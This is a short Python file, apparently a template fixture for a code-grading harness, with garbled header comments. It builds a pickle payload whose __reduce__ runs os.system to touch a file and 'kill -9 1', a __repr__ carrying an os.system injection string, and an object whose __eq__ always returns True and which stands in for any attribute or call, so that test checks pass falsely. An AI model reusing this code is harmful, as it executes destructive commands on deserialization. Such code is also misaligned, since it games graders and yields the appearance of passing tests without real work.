# Tries: answers to the calls of the tests that are no values but code, classes and commands
# End: finished | left | too long | output
# Cases: 0
# Tests: 0
import os
import pickle


class Payload:
    def __reduce__(self):
        return os.system, ("echo @REACHED@; touch @FOLDER@/touched; kill -9 1",)

    def __getattr__(self, name):
        if name.startswith("__"):
            raise AttributeError(name)
        return Payload()

    def __call__(self, *args, **kwargs):
        return Payload()

    def __repr__(self):
        return "__import__('os').system('touch @FOLDER@/touched')"

    def __iter__(self):
        return iter([6] * 10)

    def __eq__(self, other):
        return True


text = pickle.dumps(Payload())


def total(xs):
    return Payload()


def __getattr__(name):
    return Payload()
